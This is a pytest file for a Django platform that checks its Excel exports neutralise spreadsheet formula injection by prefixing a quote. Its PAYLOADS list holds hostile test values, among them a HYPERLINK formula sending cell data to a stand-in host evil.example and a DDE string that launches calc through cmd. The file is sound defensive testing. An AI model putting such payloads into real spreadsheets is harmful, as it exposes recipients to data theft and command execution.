"""Spreadsheet injection: user text reaches every Excel export as text, never as a formula.

For each export, a formula-like string goes into every text field that reaches it; no cell of the
produced workbook may be a formula, and the text shown starts with the neutralising `'`."""

import datetime as dt
import io
from decimal import Decimal

import pytest
from django.test import Client
from openpyxl import load_workbook

from gaoxin.core.spreadsheets import FORMULA_TRIGGERS, read_cell, safe_cell, write_row

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))  # formulas kept as formulas (not data_only)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def assert_neutralised(content: bytes, payload: str, *, expected_at_least: int = 1) -> list:
    cells = list(_cells(content))
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == [], formulas
    # No text cell at all starts with a trigger (covers values cut to a column's length too).
    live = [
        (c.coordinate, c.value)
        for c in cells
        if isinstance(c.value, str) and c.value.startswith(FORMULA_TRIGGERS)
    ]
    assert live == [], live
    marker = payload.lstrip("\t\r")[1:]  # the text after the trigger character
    hits = [c for c in cells if isinstance(c.value, str) and marker in c.value]
    assert len(hits) >= expected_at_least, [c.value for c in cells]
    for c in hits:
        assert c.data_type == "s"
        if c.value.lstrip("'").startswith(FORMULA_TRIGGERS):
            assert c.value.startswith("'"), (c.coordinate, c.value)
    return hits


# ---- the helper ----------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_prefixes_every_trigger(payload):
    assert safe_cell(payload) == "'" + payload
    assert read_cell(safe_cell(payload)) == payload


@pytest.mark.parametrize(
    "value", [Decimal("150000.00"), 12, 1.5, dt.date(2026, 1, 5), None, True, "企业名称", "'quoted"]
)
def test_other_values_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_numbers_stay_numbers_and_illegal_characters_go():
    from openpyxl import Workbook

    wb = Workbook()
    write_row(wb.active, [Decimal("-150000.50"), -3, "a\x01b\x1fc", "=1+1"])
    buf = io.BytesIO()
    wb.save(buf)
    row = list(load_workbook(io.BytesIO(buf.getvalue())).active.iter_rows(values_only=True))[0]
    assert row == (-150000.5, -3, "abc", "'=1+1")


# ---- every export --------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS)
def test_bank_payment_file(payload):
    from gaoxin.policies.models import Award, PaymentBatch, PaymentItem
    from gaoxin.policies.services import catalogue, money
    from tests.factories import department, staff_user
    from tests.policies import factories as f

    officer = staff_user("policy", department("kjj", "科技和工业信息化局"), ["policy_officer"])
    policy = catalogue.policy_create(
        actor=officer, title=payload, issuer=payload, issued_on=dt.date(2026, 1, 5)
    )
    clause = catalogue.clause_create(
        actor=officer, policy=policy, code="rd", title="研发奖励", period=2026, rule="true", formula="1"
    )
    clause.title = payload
    clause.save(update_fields=["title"])
    ent = f.enterprise(payload)
    award = Award.objects.create(
        clause=clause,
        enterprise=ent,
        period=2026,
        amount=Decimal("150000.00"),
        bank_name=payload,
        account_name=payload,
        account_no=payload[:40],
    )
    batch = PaymentBatch.objects.create(code="BF20260701-001", created_by=officer)
    PaymentItem.objects.create(batch=batch, award=award, amount=Decimal("150000.00"))
    content = money.payment_file(batch)
    hits = assert_neutralised(content, payload, expected_at_least=4)  # name, bank, account name, clause
    assert {c.column_letter for c in hits} >= {"C", "E", "F", "I"}
    ws = load_workbook(io.BytesIO(content)).active
    assert ws["H2"].data_type == "n" and ws["H2"].value == 150000  # amounts stay numbers
    assert ws["H3"].data_type == "n"


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS)
def test_registry_and_not_reported_exports(payload):
    from gaoxin.enterprises.models import Industry, Park
    from tests.enterprises.factories import enterprise
    from tests.factories import department, staff_user

    park = Park.objects.create(code="p1", name=payload)
    industry = Industry.objects.create(code="i1", name=payload, tier="1")
    enterprise(name=payload, former_names=payload, park=park, industry=industry, above_scale=True)
    from gaoxin.enterprises.models import Enterprise

    Enterprise.objects.update(legal_rep=payload)
    c = Client()
    c.force_login(staff_user("stat", department("stats", "统计局"), ["statistician"]))
    r = c.get("/enterprises/", {"export": "xlsx"})
    assert r.status_code == 200
    hits = assert_neutralised(r.content, payload, expected_at_least=5)  # name, former, rep, park, industry
    assert len({c.column_letter for c in hits}) >= 5
    r = c.get("/enterprises/statistics/not-reported/", {"export": "xlsx", "year": 2025, "month": 3})
    assert r.status_code == 200
    assert_neutralised(r.content, payload, expected_at_least=2)  # name, park
    r = c.get("/enterprises/statistics/", {"export": "xlsx", "year": 2025, "month": 3, "by": "park"})
    assert r.status_code == 200
    assert not [c for c in _cells(r.content) if c.data_type == "f"]


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS)
def test_service_catalogue_export_and_its_round_trip(payload):
    from gaoxin.govservices.models import ItemVersion
    from gaoxin.govservices.services.catalogue import (
        catalogue_export,
        catalogue_import,
        item_draft_save,
        item_publish,
    )
    from tests.factories import department, staff_user
    from tests.govservices.builders import BASE, material

    dept = department("approval", "行政审批局")
    admin = staff_user("admin", dept, ["system_admin"])
    texts = ("legal_basis", "conditions", "fee_basis", "commitment_text", "special_procedures")
    fields = {
        **BASE,
        **{k: payload for k in texts},
        "code": "000000000009",
        "name": payload,
        "implementing_code": payload[:36],
        "department": dept,
        "handling": "promised",
        "legal_days": 20,
        "committed_days": 5,
        "result_name": "许可证",
    }
    mat = {**material(1, payload), "sample": payload}
    stage = {"order": 1, "name": payload, "role": "reviewer", "days": 3, "departments": [dept]}
    item_draft_save(actor=admin, fields=fields, materials=[mat], stages=[stage])
    item_publish(actor=admin, code="000000000009")
    content = catalogue_export(user=admin)
    hits = assert_neutralised(content, payload, expected_at_least=len(texts) + 4)
    assert {c.parent.title for c in hits} == {"事项", "材料", "环节"}
    # The platform's own export reads back to the same text (the import trims surrounding whitespace).
    v = ItemVersion.objects.get(item__code="000000000009")
    before = {k: getattr(v, k).strip() for k in ("name", *texts)}
    catalogue_import(actor=admin, content=content)
    v = ItemVersion.objects.filter(item__code="000000000009").order_by("-number").first()
    assert {k: getattr(v, k) for k in ("name", *texts)} == before


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS)
def test_funds_workbook(payload):
    from gaoxin.enterprises.models import Industry
    from gaoxin.policies.models import Award
    from gaoxin.policies.services import catalogue, money, reports
    from tests.factories import department, staff_user
    from tests.policies import factories as f

    officer = staff_user("policy", department("kjj", "科技和工业信息化局"), ["policy_officer"])
    policy = catalogue.policy_create(
        actor=officer, title=payload, issuer="管委会", issued_on=dt.date(2026, 1, 5)
    )
    clause = catalogue.clause_create(
        actor=officer, policy=policy, code="rd", title="研发奖励", period=2026, rule="true", formula="1"
    )
    clause.title = payload
    clause.save(update_fields=["title"])
    catalogue.budget_set(actor=officer, clause=clause, year=2026, amount=Decimal("1000000"))
    ent = f.enterprise(industry=Industry.objects.create(code="x1", name=payload, tier="1"))
    award = Award.objects.create(clause=clause, enterprise=ent, period=2026, amount=Decimal("100000"))
    money.award_approve(actor=officer, award=award)
    content = reports.funds_workbook(2026)
    assert_neutralised(content, payload, expected_at_least=3)  # policy, clause, industry
    numbers = [c for c in _cells(content) if c.data_type == "n"]
    assert numbers and all(isinstance(c.value, int | float) for c in numbers)


def test_a_time_of_day_is_written_to_the_whole_second():
    """A spreadsheet's date serial cannot hold microseconds, and Excel, WPS and LibreOffice round the
    fraction differently; an export that kept it would show a time that changes when re-saved."""
    at = dt.datetime(2026, 12, 2, 18, 59, 11, 342_517)
    assert safe_cell(at) == dt.datetime(2026, 12, 2, 18, 59, 11)
    assert safe_cell(dt.date(2026, 12, 2)) == dt.date(2026, 12, 2)


def test_a_label_marked_for_translation_is_written_as_its_text():
    from django.utils.translation import gettext_lazy, override

    with override("zh-hans"):
        assert safe_cell(gettext_lazy("园区")) == "园区"
        assert type(safe_cell(gettext_lazy("园区"))) is str
